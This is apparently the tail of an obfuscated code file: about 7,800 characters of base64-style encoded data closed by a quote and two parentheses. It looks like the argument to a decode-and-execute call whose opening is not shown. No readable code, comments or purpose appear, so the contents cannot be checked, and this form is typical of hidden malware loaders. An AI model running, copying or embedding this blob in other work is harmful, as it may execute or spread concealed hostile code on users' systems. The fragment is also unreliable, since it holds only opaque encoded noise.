5CYy7vWSNbbCS/Sbo4gTt3df4qrsiXM80WAQONQbavJpkPVEyZ8m0RdqP567ofaob4w6QuD4RuKUV8H8h9xgTY4oPVtU3rV59JBX/WCDe51QXu3Ah/au1jaaDQGibRMF/6ycar71Bk6/vzKrY0PD2oJI/UGXWVd+hCdZE10fx2V8Wlm7n8Vvn4KI5QodXxWtl5f1Ex6Ndzd3eCagQJ3GM9gtra7ReQKbfyjuta78ITnUmy2cG2oHux77miX4XnTLRG88+V2Ov02gYjFbKkxqKeovrkc+WjT/mXjvAIR1tapsUkv2whYUwqRHcx/ay8K2EQoPI1kEhJO4U8RwHsgH2MAW1ufak/yOkhoFu8dx8ghlBEPJU42nH+uNYANAmZ6okOJrcBwIkaNzqfQ/kdfxbJH7ep5D40u/lcP9YXrSv/AimjhorOUK1SNo3O+prJLF4zYipyc4PDHSYVmA9jyFUrPr1/fWvz2ilRcXh7yLWyPrk++Ei5j8EAE83xx2E7M4s5d0465F1fVnJHXFOAE/dMmBlg1lmXGLVbGof/Uj/A8UjqMwt6l+s1Of/PNLWYrhsB291Y2FBUlIqhyrHiOuQ7qo/VnBUvqmDyUD0BQZObYvt7Qus/8OgsVEU+KjQUW17wg4fGFmBSTSd3gINy0UntkBWg+TnALO/2NNDLS6czzYgamii4x8IQhrAxSmIAQ/rqFx3hjV0zEvVI6i56byQqwlyzI0zUpDUwZVeHUZtPVro0TSG3+DefXfyuxqbBLO723HMaMLi4Gf7+XWxuX4hv/rpYlWD3YPdngf+OZLVb7zLVJz+5ulMjZ0tmPMz3qCIMdWFXudIA3BaObXp9oI1RH83ruvPsc66U13rImT7KLDIkew3mpEmRKh//a1tsky0eCQt8ilTvdP0u++wfdkwhwldic/QIw0qzqdRk+1VgFZeWDMb0K67DKlv1T10JHdlXPefDhJFUrNzm5hIZ8iWH2ZduMIbX1IPTEzZ5l0hlNwCrC59+B5CoyfRjPwT5v6LHDq/y2OfRNcjgZbJbOfBZTGu94asThMNeCWKY840tsPVbxSkD64xLRBrQJIsCfTWTVCouK/oyE3bR92iSQG+y7C605o1aog/fY3GnngwjuWOiTRpJ7vLqPwr3Yij7S75MFqOQwK1h8CvJsgI3DcA45NGOyL1FLmWG2QfhHIivZbBMGGo1d8MuXfeG+xeDZmWs/C5I43iBt0nebY5eph/se3l2wsoid+NB037O/m1F8S749SrUN5iqM5BisR/a3gZH8r4SfW6zdbdx7WHP8Drs9rQ5DswuKz4Upks6gvzOhvUEydqO3uQXJTFZFJRMFaGnKcZm/GwIeKu4G0Eer9IsEkx8lb4SxatejdBbaUybCO9mDaDA807sfHRWMkpmFRN2nAHE+EaoL3esL1N0nYh8gyoTlBLOjH+qM28up2LcI2Eb+fQyUsLqGtjqvxA3M+l3fn7/FWyetKe8zhQcMuQsSmF8COEc/NgfMnM+gf76pR/NrIyULePj5qhB5rUKvVb0U0SFA4vVV84xw0U2AHKfEa8BD95IH40+m4Bu8EV4imeNTIuBJCoZECcbKzXx5OweNulv5syIZmvezgapuupnd5eEodO53eTCFSWqPv0wBVIyIsTwdAk80MpK7Zudb7lRLdv8a2esziiDJfCo+L50wvHu7anyFKFNYK8wV+GjW5jMgWk0gycQHs8vMqgfa3jDhBfH0/MuhDBol0p+JVCrG+Rx/FA5ehJHVTujmyLc3JcTbAj+2lvgd1zwp1VErspfkEQMvJ9e1JYuNp6OqA8q8fcZKdKyt5XNCY9eFfTEMdrvlHGVaFzaSXG0zRKQYDXRGSyn4My4+tJSMW/ND12sllUwB3E9Lojk+Se9Whre10Kv8aP2lh8EOCQ7ikf5jGuV1NGXqlMdPtQP0U4c3p5Z8ccd3IzpyvmP32tNJIPUUR1HGU3j+2q85h39XGQn1xVyX2CBoG8HlR2j20bW5Z8Swchb+JVBPCIah6YVrJ6pt4Lh68w5niQtkOXUJjd+PoM/OJNpbRatefGZMmuv+MrbF4HrGQEELgdYHd18iTrDL2aNFdPIODYZn7C6DnzoMHPEQwP+RPkFOC8meFqtobfcMAbMIdOAkQJKPnc6EwGVSfi21j/Q/Bved6KIXW8mZeLqmEC7C5amhNDzXAYCHkxQEsYsz95kXdEpAYC3MQc5/tz2pylQgi/zFu8QM/Knr8Q2C6PnIxdEjcQW8Dp7UMm3lR3/xdlBsXxED87Bc4x+XWVxXV8yFOaU3tsQiGvJBsQ7ELN40+WceHcNnpIVNx832ysddXB4kre3yfxf3lBrRw1CBjtZH3pLfx7D3HFgdze/4UT6amf5tnSYD8JrZV224Feftuhne/OsB73W3OwAoqGyXneG32fsykjMYdUMB3kakbdz/FvtTO/fB9adPvLQvPovRi4k2w63RuWeNSbsdotB5fVPOuYbPXgT5Q9FJ+DflYpAk7dKdcTcis648Tiq1/Bk99CuNGgT/vRlGERaiUzeYx2pNvMgzKOCXHpECmWE2i0SVfG3M54NI2ZutjLHQGCLk0pz0S0CCpVTPXTat3uKeN4K5s8M7lpyHSryWlbJ1cKZhjEcj4Hg7CZlFZHUCAuSgvFrFD+Sj0kieEr+w/NjIX0G1XTDBvsXLeypHHuuAy/bvscXfU8w4ihAlZO9Ad3sEq12dFvDiwPHqbbNFX8Wh59XiHrZ8sYw+hMcfM/dqClB4TJA/jMViVkqDFO9GT9aU0jHyT1uvKRRtsLfe1x4jL9/XBtzdiFr7/GvBZy05TqIUyeyV6p1MzB/+VeX00bcm4yHWb06TBA13FczYTbIh8ehDKgJRCEOFzOFY8fWo0pjcH4l1bOb++UXZ5INoipsaTxh7TJFsOpdo0oQOU2enG3lCX0/ObG5HRG/1wmqJFHFQC1ssGL7azDKKntZ36+GESvdirHRjAsrXzsvgJN58+zsyZxPqOsZ9IAOKvuH7mUSUKH6YU6jbRwnndNgWnC4W9SFnYmIE7Vl3lQtGJgYq9KPNR0+/HOaw4iYSmGg8DmG1Oyy7uhPJIVcqSI0tkMj8zc1BgE7brrxxYawgdA/Jt9wMy0+Yo0jKiT8zKqooNdLC0E3dbtdVRlmPjmWrLo+50t+0/d/FqgYkJFUhtyIz/+TPLTKM5+eamupNaRj6LFwh+/XKaFK0TJcgY51BXxRGLTrIZ7+ATjaEqj8q/O0K8lT4/vrvl7r+3WnXSkaJiz4cumyX0aR7a1l3/lCH3e9NRfkhuAyPCr6dr8hCAHLHnLURGOF9F6h36UkHlQKwy52QajBYoJvcDDyQAuUz89wI1kWnfVDtFRdb5yFSTATZA+w+xcueI82XRCYr6cVdNeM0YosnxQOcEcu4LKGmL9do3K+65F2nclV6ZC1IDA6MKmVTzrizTHNAm8R2OFf4W9Hc9u9tP1XSDSqEsezTHOEIYc7qoxWPbn87XynTqPexXdK3w3HP2YpTm6oLmu0MdwPRd5sg2ufXtzGPZ+FklnyaCdb9Xsq0+zMKi9h6dFC0qnHIIqhrQAiSNRFgzan4yU+4Q3CBhc3IwzpKJz8Dn0Mg2f1vTyxRgadi66sBK3v3nfKSWiLXUq4Ht3xAMQJNGI6hNyyrFAGq6kpEUOFPMuPDinUvnAjoeNvob9XVsewqzLW+zuPzXpzFSfwQ39mGx19cnOYi0WVlniMOusKXIj+Lq5g0GRkj9Rdw4SJM5QksHkyq0DfMf/HwtIetC6YtH7l059SlP6+ksSLjQPfa9t1W5/OY1ktUIpW0O486h5WeB2pa4c6ghXbzquIfpSZFcSSFe00LJPKoGt7dKOnmOV7VYUuRZNBS3NdE3aPw3qQMj9XPkuyt297YZNjGf7VvHLWO6wKcsk/lVXfAlY1TADysWyDzb4c64WKrHB1QViVfVSShpSFhtJ+fmwKtV+1NJ7zLm/+hfDUnZRpWy0EKXB4VnatYr2b2/JRpz5XTUE8/F+8tw8EKHU8csHHhW1wB3ShR1XkHli6TedniHdOHWJvRu0h8uqj24AXmnW7wit4I5uKs/C6sAnik/PdeTf+pluUoPMFZlutilBabopH2Oi1IlhUrL4fLdD4yfILUXjZ+zQ5k35RsK/wEJ1LSptgTXt3Yv+kD3bprbUfDxqTqU79BxQaEN59RcGmAhqDcLGHU/7x1yMEm2Fq8WrmAGioCsh5XAlceK34giPdFMOb4F5c9L285LRK4mVPukqbe6AtYXtTLsNQqqxkmOajTgGEiw/K5x3n7GXgnaywbD3ZEaYhkDAal43JEk+1X/3Qk19WUXKq+uMBPDRFTP70TmKtsel4+9c8+hFp0NRUgmxC0Y4CRTaGxRKhd6mKs050Hf2HyRSgVvy9hiwe/12hmVSeSUjTuHjqj+cPpbmn+W1AUJSajLSSJ7kooMbsLscK3lYnWIO1TTTlBpi9davDmDOi3pRESGH1CU5nBJlSk41G+Pg/ZUcHMpfUmTYePdVTFz44dweAylTkAIKDSYZPUs0UprnmwO3MfhOoBYm1mwPvWnQ1hZc+weqJpCiWmLnEhIABnaQZZmJyIe/Zew3ZGAnl8Vu8G0T3L3VT3jpvvAalgN/PNg9FO+KLYul4Aa/eHbRCcshh4g/7LTnc+E0Wot8H21Xzn9MD1EHLmzTlsgKmNpV8+FjIkp3XnKNM+vgdvU8zOobLZ154bVpxkAkYMO/1SQ8mnochcHjvelj16fvzIgXfG+pPNr1UAffuAj+yyLn6YEy1EEhPCe1FtWg20fX/U2HHx4f28Crd9iHVHsjd4fei66UG3GUXXaXfwQkvbnFOEQMPX8pPlt7/4U5z7MkIbtv64zNyfbMBfs7sPa1MYdgZvlKqIa5lbylKga9EjsG8qmcXfgjNejDYqTzLGx7zmOvxHKe1m23I+WRz10idPrKyP0ZxfgbrCOtnENrnQhkPrPZyS/vVhdMcLf5X3W283uN3wcpFSD/nrEfKBSNKbfr3l61NJ3Q7iZ1aZEeJV8x5Qh7A698PoMf0d2bf6m5yZkzyhJWatOGfH93crXcWu0BwRufgndswL6Dlju3nzd5g+a5r1DrNY53zBLCRX+k5QXY5VpFhlph31ZDlvHX8evEzDTl3+WU9mpIlqlGHYLcYaqa0T0VoV9/m+7E9v5NV40nDl1m73XB8169wjb1dWYBkiUsV4sqgWIXglfhvBbuUyHT4VZWIkBPXQp4BFCpnyeQKUiZkEoXCDXKWDVlqz+xa2unbAnfVHmnbJF0F/FclhJ0uJMKzDdnNACVubyWVivUhavVUwlgAK9sK582oRRxzXeBY+1nbNLU4RBzB+Sf9TyuzQgsakjW2fKnyu0TzWuGIRJxQxRie9+XM3/BiHMOefgvNr6aR2Fn0aSCKcWyrAFgzCAepM2UmsqjpIMrK2PrfBBXt8MiaTLYSHve75EJj8rm8tGwJxF8kfkJeCn7sTbLeESbo/7tSYywi7aVbu9tqPzaUF7Sv/1P8Y33xmh4bUncGOcWMoGiS4ni/acIxPybLK7MGgg6h0jaL7zO5vx9Hj3cCEPo4Js7kcdnNPF61MfWVbrFmnovU/FMR3cgRWdy/rtTIwVjyz8RsLsbv+i6KtZr/K0ViatM7mvSiAs7A8q7JQU3fkeASt4qKV7uyravtYxhS5A7XmOikPaflWFoeTSUGv35NsBtKP4F5fcvge9Z6AjY4Uk0zWVX8fYoGHhf9P665N1mXYHkfiajUIiFreed6BXG0J+qRqWKx7HE5yO+tsIiGx7aGlHPPZpSow+VGMGOILX7YHO+p0bGyOweApb8S4W/WneRaWMQY1PUYji9VH4TY21tMO0Bq2ExWsnfA+gjFDePBchKLja8FrwDJZzzdSd64ztaVADYNLEnAFqa/V/OUAuHpTEuwr+PscFZtha+k8lGD9F5IZUJnAWRZJ6omS/xDkVGS42HOWFxe7jC7aW0vcqCfXbQegErkQtv2nlptc8AvOVdSdZR8Im7NMzX860i7aLvjVjTwZXiemu2T35q9gBibnkB5gBcd/jyRq1oplM3My8O2J43bnzfUcQ360q0PZOFvKO0xZiUgAX30EwfxTkqpJrkF6QWAfEKwfOKgKR492OC0OA9REvQwbTkdQb1xAC9vxoX+1zMtv/tEjxlMi/kMTJTUUpbKWsa1vvaLyEVrSYDwfFSzy6tA1hUeGVRY9fRPlJ9uEaP+eyIjgNy9q8DjXnhWl14SCuQyGSVERDIE6gkiQvFNK+i53xNzLEyfg+sv7+WHAFEw4/bGLiv8ZYechwuvWd2dY0WWHd6+v3eggraSJqEaRPHqN94ppQ4y8KEQ/JkX3CgiwRx2K6L3EostLZXjSLc3ihBRXu/Fa39KOi1Ca5fUVevBIhYprge/QhZaG3o06KV6VGsBrEeUeItXzpR2eveZmrAtf2JyyL2h6kdD+zOahHQh+dyeK8+n+iakkvjSkij4wr9E84mlJdvyTX43pH517nlklIgUIhix/OALBe3D29wo/0lijzjK8aRIfsNiynMZxbGZyRAT6496he9jvEoY1xPLmBxe97roq3JQv1+5mX/Ph8m0QizdWkIqIlU27VQZUTUgJN4aLGgegvWm9yGqee3ERx3n5iGxlET+MBeknNxA1zua3i0VK3rXhWKF3xlvE4yMDxy6TAPmIpqMcrIyBsl7957TkLduuw07xG6iczcWqDy1qMxVatYbxpMvwF5LTgvyP/ZrvQVUexMKAGVe28wlfLC9Pt5BWnUnQ2udSvTq8tAHDi79xJJ/yeLVySit4jlwynI+F4SSeHHJgXxmtYoh8NKB6FhTQDYP3dwFp6yVpN66rfp1w0klTYbX/wGhnvH/Nd5NWG4WsIC8WhxZyoRsH6403nKCw2SrhX+SKzdKmDpE3HJHcPQMLuH1mTY18tqUywCk/1ZEMW8FIjh5jg/TTKCcTJOtFIHLuBamOBE7XvIkUYjonTkpSVUCrYGW9c3iePGfB/dovzgOwkyi8nKRK8knKPZFOnWq6DUk0ZehDSN1KaWMtKc7elVkvnP/Bg//uKkw08CVBu9+OfH/VorK03ealNcZcwUi5MSiVFtLlZl63RLAlIofXhRDA2k3APVt7kYgXq8wqR0SBIfRPAwU5nM61aoVmjNOxytrVxoC9ZBwXgtuKrbJjzi2isVvBSOT3vlwEM2F0WniDRdgCmKx6nnKiNZ+IYQKz4VX/xersq9gSJnYZ4nHMVYvWpDZOKH/Wp8xVRptxfZ8iVDeLtP5o/rt9cUllMHnGK2h5Jel7YAueAE1VgBlS6g2qVJ1OVg2FxB1VO4vbhC2GhhH+abJtgJbaS7+pR2QE0neZGjvT2o81vFAnfO3eQxdh7w43JqfNixO/+x3z9oTVimSqucZvzrm6AVxmw1vdzj28kHrIyhCFB4PhytiUIUT1dyWXBJC0pbk9qBHBrkZ5sIydymnbM/UZgYWI9lKMbOFzikaujUFt9rcvK4a8dMOQmvHY1hxuPJJnsT1I/Ya8ItxNRCW7wQtSYDoaONT5cOoHRUm4Ftd8guXUt0DImEO1dHZjDiZq4HrurQWBzmgdVNar8aS0iTT3w3b9XdeV3QLGzqPEf2WGMSWWWc9PYUjKgvbQB87HAcKoaQprUt5H2vTGehtPjBwnvHm3Ey/2KiIJ3qJ2r6IyotCYclW+0FQgjtBCEAS7wGO7Oj/M//fZ/T+//35//P8rMfhuDf2SQI80+z99zu4uCpO7O4dYA3Dcxfn+RhjBwq2WsmcwJe'))